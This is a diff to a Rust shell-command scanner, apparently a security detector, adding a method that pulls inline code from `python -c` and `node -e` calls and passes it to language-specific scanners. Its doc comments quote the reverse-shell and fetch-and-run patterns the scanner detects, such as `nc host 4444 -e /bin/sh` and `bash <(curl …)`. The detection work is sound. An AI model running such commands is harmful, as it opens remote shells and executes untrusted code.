@@ -679,6 +679,43 @@ impl Scan<'_, '_, '_> {
         }
     }
 
+    /// `python -c '…'`, `node -e '…'`: the string is Python or JavaScript, read by their
+    /// scanners (a few levels deep at most).
+    fn inline_code(&mut self, cmd: &Cmd<'_>) {
+        let name = cmd.name.as_str();
+        let python = name.starts_with("python") && INTERPRETERS.contains(&name)
+            || name.starts_with("python3.")
+            || name.starts_with("python2.");
+        let (flags, lang): (&[&str], _) = if python {
+            (&["-c"], super::Lang::Python)
+        } else if name == "node" {
+            (&["-e", "--eval", "-p", "--print"], super::Lang::JavaScript)
+        } else {
+            return;
+        };
+        if self.depth > 2 {
+            return;
+        }
+        let code = cmd
+            .args
+            .iter()
+            .skip_while(|(a, _)| !flags.contains(&a.as_str()))
+            .nth(1)
+            .map(|(_, n)| *n)
+            .filter(|n| matches!(n.kind(), "string" | "raw_string"));
+        let Some(code) = code else {
+            return;
+        };
+        let r = self.span(code);
+        if r.end > r.start + 2 {
+            let inner = r.start + 1..r.end - 1;
+            match lang {
+                super::Lang::Python => super::python::scan(self.ctx, inner),
+                _ => super::js::scan(self.ctx, inner),
+            }
+        }
+    }
+
     /// `nc host 4444 -e /bin/sh`, `socat exec:bash tcp:host:4444`: a shell whose commands
     /// come from a network peer.
     fn reverse_shell(&mut self, node: Node<'_>, cmd: &Cmd<'_>) {
@@ -1034,6 +1071,7 @@ impl Scan<'_, '_, '_> {
             }
         }
         self.reverse_shell(node, &cmd);
+        self.inline_code(&cmd);
         // Code from a substitution: `bash <(curl …)`, `eval "$(curl …)"`, `sh -c "$(…)"`.
         if runs_code(&cmd) {
             for (_, arg) in &cmd.args {
